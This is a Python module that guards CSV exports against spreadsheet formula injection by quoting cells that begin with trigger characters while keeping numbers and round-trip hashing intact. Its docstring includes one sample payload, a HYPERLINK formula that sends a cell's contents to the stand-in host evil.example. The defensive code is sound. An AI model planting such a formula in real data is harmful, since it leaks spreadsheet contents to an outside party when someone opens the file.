"""CSV cells a spreadsheet shows as text, never runs as a formula (CSV injection).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`,
`-` or `@` (and, after a leading tab or carriage return, what follows), so a
value planted by anyone who can put text into the store, say an e-mail
address `=HYPERLINK("https://evil.example/?"&A1)@x.org` given to a refused
command, would run when an auditor opens the export. Following OWASP's
guidance, such a cell is written with a leading single quote.

Two choices keep an export faithful evidence:

- Plain numbers (`-0.25`, `+3`, `1e-5`) are left alone: a spreadsheet reads them
  as numbers, not formulas, and a scored file must keep its negative scores.
- A cell that already starts with quotes followed by a trigger character gets
  one more quote, so `original(cell(v)) == v` for every string: the export can
  be turned back into exactly what the store holds (and re-hashed).

Rows end in CRLF (RFC 4180): Python's csv writer then quotes a cell holding a
bare carriage return, which with `\n` endings it leaves bare, so a planted CR
would split one row into two that a spreadsheet shows as real.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any, TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LINE_END = "\r\n"
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """`value` as a CSV cell that no spreadsheet evaluates; non-strings and plain numbers unchanged."""
    if not isinstance(value, str) or _PLAIN_NUMBER.fullmatch(value) or not _NEEDS_QUOTE.match(value):
        return value
    return "'" + value


def original(text: str) -> str:
    """The value `cell()` was given, from the text it wrote (for re-hashing an export)."""
    return text[1:] if _QUOTED.match(text) else text


def row(values) -> list[Any]:
    return [cell(v) for v in values]


def writer(out: TextIO):
    """A csv writer with RFC 4180 line ends; pass it `row(...)`."""
    return csv.writer(out, lineterminator=LINE_END)


def frame(df):
    """A copy of the DataFrame `df` whose text cells are safe (numeric columns are not touched)."""
    out = df.copy()
    for name in out.columns:
        col = out[name]
        if col.dtype.kind in "biufcmM":
            continue
        # Vectorised `cell`: non-strings give NA in `.str` and stay as they are.
        mask = (col.str.match(_NEEDS_QUOTE.pattern, na=False)
                & ~col.str.fullmatch(_PLAIN_NUMBER.pattern, na=False)).astype(bool)
        if mask.any():
            out[name] = col.astype(object).where(~mask, "'" + col[mask].astype(str))
    return out


def write_frame(df, path: str | Path) -> None:
    """Write the DataFrame `df` as a CSV file (no index) with safe text cells and RFC 4180 line ends."""
    frame(df).to_csv(path, index=False, lineterminator=LINE_END)
